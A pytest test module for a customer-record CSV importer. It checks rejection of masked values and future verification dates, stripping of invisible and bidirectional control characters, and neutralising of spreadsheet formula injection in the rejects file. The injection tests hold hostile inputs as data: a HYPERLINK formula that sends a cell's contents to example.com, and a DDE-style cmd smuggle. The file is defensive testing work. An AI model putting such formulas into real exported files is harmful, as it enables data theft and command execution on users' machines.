"""Values that are none: masked forms, days that have not come, signs that nobody sees, formulas in a rejects file."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine

from sync.server.importing.converters import plain
from sync.server.importing.entry import Reject, encode_json
from sync.server.importing.feeding import _rows
from sync.server.importing.opening import open_file, open_table
from sync.server.importing.rejects import _cells, default_path
from sync.server.importing.table import NOTES, RAW, guarded, unguarded
from tests.sync.server.importing.files import (
    HEAD,
    became,
    bring_in,
    by_name,
    paper,
    person,
    read_rejects,
    records,
    write_csv,
)

WIDE = ["姓名", "证件号码", "客户号", "手机", "邮箱", "地址", "出生日期"]
WHOLE = ["王一", paper(5), "K12", "13800138000", "wang@example.com", "江南大道 100 号", ""]
MASKED = [
    (0, "王*"),
    (0, "王＊"),
    (1, "4403**********0055"),
    (3, "138****8000"),
    (3, "13800138001；138****8000"),
    (4, "w***@example.com"),
    (5, "江南大道 1*** 号"),
    (5, '="江南大道 1*** 号"'),
    (6, "1980-**-**"),
]
CHECKED = """
source: crm
columns: {姓名: name, 证件号码: id_number, 客户号: customer_no, 手机: phone}
verified_on: {column: 核实}
"""


@pytest.mark.parametrize("known", [True, False], ids=["of somebody there", "of somebody new"])
def test_a_masked_form_is_no_value(engine: Engine, tmp_path: Path, known: bool) -> None:
    if known:
        bring_in(engine, write_csv(tmp_path / "a.csv", [WHOLE], WIDE))
    before = records(engine, "customer"), records(engine, "contact_point")
    rows = [[cell if at == place else own for at, own in enumerate(WHOLE)] for place, cell in MASKED]
    done = bring_in(engine, write_csv(tmp_path / "b.csv", rows, WIDE))
    assert became(done) == (0, 0, 0, len(MASKED))
    told = [(one["_列"], one["_原因"]) for one in read_rejects(done.rejects_file)]
    assert told == [(WIDE[place], "这是打码后的值，不能导入") for place, _ in MASKED]
    assert (records(engine, "customer"), records(engine, "contact_point")) == before


def test_a_star_alone_makes_no_masked_form(engine: Engine, tmp_path: Path) -> None:
    row = ["E*TRADE 贸易", paper(5), "K12", "", "a*b@example.com", "五星*广场 3 号", ""]
    assert became(bring_in(engine, write_csv(tmp_path / "a.csv", [row], WIDE))) == (1, 0, 0, 0)


def test_a_masked_form_in_a_policy_is_no_value(engine: Engine, tmp_path: Path) -> None:
    bring_in(engine, write_csv(tmp_path / "c.csv", [WHOLE], WIDE))
    head = ["种类", "业务号", "证件号码", "客户号", "车牌号"]
    rows = [
        ["线路", "138****8000", "", "K12", ""],
        ["保单", "P1", "4403**********0055", "", ""],
        ["保单", "P2", "", "K12", "***"],
        ["保单", "P3", "", "K12", "粤B12345"],
    ]
    done = bring_in(engine, write_csv(tmp_path / "p.csv", rows, head), "holdings")
    assert became(done) == (1, 0, 0, 3)
    assert {one["_原因"] for one in read_rejects(done.rejects_file)} == {"这是打码后的值，不能导入"}


def test_nothing_was_checked_after_today(engine: Engine, tmp_path: Path) -> None:
    rows = [[*person(1), "2026-11-24"], [*person(2), "2026/11/25"], [*person(3), "上周"], [*person(4), ""]]
    done = bring_in(engine, write_csv(tmp_path / "a.csv", rows, [*HEAD, "核实"]), mapping=CHECKED)
    assert became(done) == (2, 0, 0, 2)
    told = [(one["_列"], one["_原因"][:8]) for one in read_rejects(done.rejects_file)]
    assert told == [("核实", "核实日期晚于今天"), ("核实", "不是能读的日期，")]
    done = bring_in(engine, write_csv(tmp_path / "b.csv", [[*person(5), "2199-01-01"]], [*HEAD, "地址核实日期"]))
    assert became(done) == (0, 0, 0, 1)


def test_signs_that_nobody_sees_are_not_kept(engine: Engine, tmp_path: Path) -> None:
    rows = [
        ["张\u202e三", paper(7), "K\u200b14", ""],
        ["李\u2066四\u2069\ufeff", paper(8), "K15", ""],
        ["\u202e", paper(9), "K16", ""],
        ["\x1b[31m红", paper(10), "K17", ""],
    ]
    done = bring_in(engine, write_csv(tmp_path / "a.csv", rows))
    assert became(done) == (2, 0, 0, 2)
    assert {name: one["customer_no"] for name, one in by_name(engine).items()} == {"张三": "K14", "李四": "K15"}


def test_no_cell_of_a_rejects_file_is_calculated_and_mended_it_says_what_it_said(
    engine: Engine, tmp_path: Path
) -> None:
    head = ["姓名", "客户号", "手机", "地址", "=列"]
    rows = [
        ['=HYPERLINK("http://example.com/?"&A2,"点我")', "-K1", "1", '="a"&cmd|x&"b"', "\t=1"],
        ["@SUM(1)", "+K2", "2", "'=1", "0123456789012345"],
    ]
    done = bring_in(engine, write_csv(tmp_path / "j.csv", rows, head))
    assert became(done) == (0, 0, 0, 2)
    aside = Path(done.rejects_file)
    for row in read_rejects(done.rejects_file):
        for cell in (*row, *row.values()):
            assert cell[:1] not in {"=", "+", "-", "@", "\t"} or cell == '="0123456789012345"'
    text = aside.read_text("utf-8-sig")
    for number in (1, 2):
        text = text.replace(f",{number},", f",1380013800{number},")
    aside.write_text(text, "utf-8-sig")
    assert became(bring_in(engine, aside)) == (2, 0, 0, 0)
    assert {(one["name"], one["customer_no"], one["address"]) for one in by_name(engine).values()} == {
        (rows[0][0], "-K1", rows[0][3].removeprefix('="').removesuffix('"')),
        ("@SUM(1)", "+K2", "'=1"),
    }


ODD = st.text(st.sampled_from("'=+-@\t\r\n＝\"01a") | st.characters(codec="utf-8"), max_size=14)


@given(cell=ODD)
def test_what_is_guarded_is_never_live_and_comes_back(cell: str) -> None:
    shown = guarded(cell)
    assert unguarded(shown) == cell
    assert shown[:1] not in set("=+-@\t\r\n＝") or shown.strip('="0123456789') == ""


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(ODD.filter(lambda cell: "\r" not in cell), min_size=2, max_size=2))
def test_a_rejects_file_says_the_same_of_every_cell(tmp_path: Path, cells: list[str]) -> None:
    one = Reject(1, 2, "甲", "理由", encode_json(cells))
    written = _cells(one, ["甲", "乙"], ["甲", "乙"])
    path = default_path(tmp_path / "a.csv")
    write_csv(path, [written], ["甲", "乙", *NOTES, RAW])
    (read,) = _rows(open_table(open_file(path)))
    path.unlink()
    for before, after in zip(cells, read.cells, strict=False):
        assert _meant(after) == _meant(before)


def _meant(cell: str) -> str:
    try:
        return plain(cell)
    except Exception as error:  # noqa: BLE001 -- refused alike, too
        return str(error)
